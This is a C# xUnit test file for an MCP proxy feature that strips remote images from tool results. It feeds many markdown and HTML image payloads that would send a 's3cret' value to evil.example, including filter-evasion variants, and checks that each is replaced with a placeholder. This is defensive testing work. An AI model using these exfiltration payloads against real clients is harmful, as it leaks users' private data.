using System.Collections.Immutable;
using System.Text.Json;
using Harness.Mcp.Core.Chains;
using Harness.Mcp.Proxy.Backends;
using Harness.Mcp.Proxy.Enforcement.Images;
using Xunit;

namespace Harness.Mcp.Proxy.Tests.Enforcement.Images;

/// <summary>Images in results, by which a client would fetch an address that somebody else wrote.</summary>
public sealed class RemoteImageTests
{
    private static readonly ImmutableArray<string> Allowed = ["cdn.corp.example"];

    [Theory]
    [InlineData("a ![x](https://evil.example/p?q=s3cret) b", "a [image of evil.example not shown: x] b")]
    [InlineData("![](https://evil.example/p?q=s3cret)", "[image of evil.example not shown]")]
    [InlineData("![x](<https://evil.example/s3cret> \"title\")", "[image of evil.example not shown: x]")]
    [InlineData("![x](\n  https://evil.example/s3cret\n)", "[image of evil.example not shown: x]")]
    [InlineData("![x](//evil.example/s3cret)", "[image of ? not shown: x]")]
    [InlineData("![x](http://cdn.corp.example/s3cret)", "[image of cdn.corp.example not shown: x]")]
    [InlineData("![x](https://cdn.corp.example:8443/s3cret)", "[image of cdn.corp.example not shown: x]")]
    [InlineData("![x](https://u@cdn.corp.example/s3cret)", "[image of cdn.corp.example not shown: x]")]
    [InlineData("![x](https://cdn.corp.example.evil.example/s3cret)", "[image of cdn.corp.example.evil.example not shown: x]")]
    [InlineData("![x](https://evil.example\\@cdn.corp.example/s3cret)", "[image of ? not shown: x]")]
    [InlineData("![\u202ex](https://evil.example/s3cret)", "[image of evil.example not shown: \\u{202E}x]")]
    [InlineData("![x][ref]\n\n[ref]: https://evil.example/s3cret", "[x][ref]\n\n[ref]: https://evil.example/s3cret")]
    [InlineData("![a[b]](https://evil.example/s3cret)", "[a[b]](https://evil.example/s3cret)")]
    [InlineData("<img src=\"https://evil.example/s3cret\">", "[image of evil.example not shown]")]
    [InlineData("<IMG alt=x SRC=https://evil.example/s3cret />", "[image of evil.example not shown]")]
    [InlineData("<img src='data:image/png;base64,AA' srcset='https://evil.example/s3cret 2x'>", "[image of ? not shown]")]
    [InlineData("<img/src=https://evil.example/s3cret>", "[image of evil.example not shown]")]
    [InlineData("<img src=https://cdn.corp.example/a src=https://evil.example/s3cret>", "[image of ? not shown]")]
    [InlineData("<img src=https://evil.example/s3cret", "&lt;img src=https://evil.example/s3cret")]
    public void Image_FromElsewhere_IsNotShown(string text, string shown) => Assert.Equal(shown, TakeOut(text, out _));

    [Theory]
    [InlineData("![logo](https://cdn.corp.example/logo.png \"Corp\")")]
    [InlineData("![dot](data:image/png;base64,iVBORw0KGgo=)")]
    [InlineData("<img src=\"https://cdn.corp.example/logo.png\" alt=\"Corp\">")]
    [InlineData("A [link](https://evil.example/) and `!` and a[0] and <imgur>.")]
    [InlineData("if (!list[0]) return;")]
    public void WhatIsNoImageFromElsewhere_IsAsItWas(string text)
    {
        Assert.Equal(text, TakeOut(text, out var hosts));
        Assert.Empty(hosts);
    }

    [Fact]
    public void LongText_TakesTimeInProportion()
    {
        var bomb = string.Concat(Enumerable.Repeat("![<img ", 100_000));
        var began = System.Diagnostics.Stopwatch.StartNew();

        Assert.DoesNotContain("![", TakeOut(bomb, out _), StringComparison.Ordinal);

        Assert.True(began.Elapsed < TimeSpan.FromSeconds(20), $"It took {began.Elapsed}.");
    }

    [Fact]
    public async Task Result_IsShownWithoutThem_WhereItsOwnerWantsThat_AndTheChainHasWhatWasSaid()
    {
        var world = await EnforcementWorld.WithAsync(EnforcementWorld.TwoWrites);
        const string Said = """
            {"content":[{"type":"text","text":"see \u0021[x](https://evil.example/?q=s3cret)"},{"type":"text","text":"n"}],
             "structuredContent":{"html":"<img src=https://evil.example/s3cret>","n":1.10,"deep":[{"t":"plain"}]} }
            """;
        world.Backend.Reply = (_, _) => ValueTask.FromResult<BackendReply>(new BackendReply.Result(JsonElement.Parse(Said)));

        var before = await world.CallAsync("notes_read", "a");
        world.Backend.Images = Allowed;
        var after = await world.CallAsync("notes_read", "b");

        var shown = ((Harness.Mcp.Proxy.Enforcement.CallAnswer.Result)after).Value;
        Assert.Contains("evil.example/?q=s3cret", EnforcementWorld.TextOf(before), StringComparison.Ordinal);
        Assert.Equal("see [image of evil.example not shown: x]", EnforcementWorld.TextOf(after));
        Assert.Equal("""{"html":"[image of evil.example not shown]","n":1.10,"deep":[{"t":"plain"}]}""", shown.GetProperty("structuredContent").GetRawText());
        Assert.DoesNotContain("s3cret", shown.GetRawText(), StringComparison.Ordinal);
        var settled = (await world.ChainAsync()).Select(link => link.Body).OfType<LinkBody.CallSettled>().ToArray();
        Assert.Equal(settled[0].ResultDigest, settled[1].ResultDigest);
    }

    private static string TakeOut(string text, out ImmutableArray<string> hosts)
    {
        var found = ImmutableArray.CreateBuilder<string>();
        var shown = RemoteImages.TakeOut(text, Allowed, found);
        hosts = found.ToImmutable();
        return shown;
    }
}
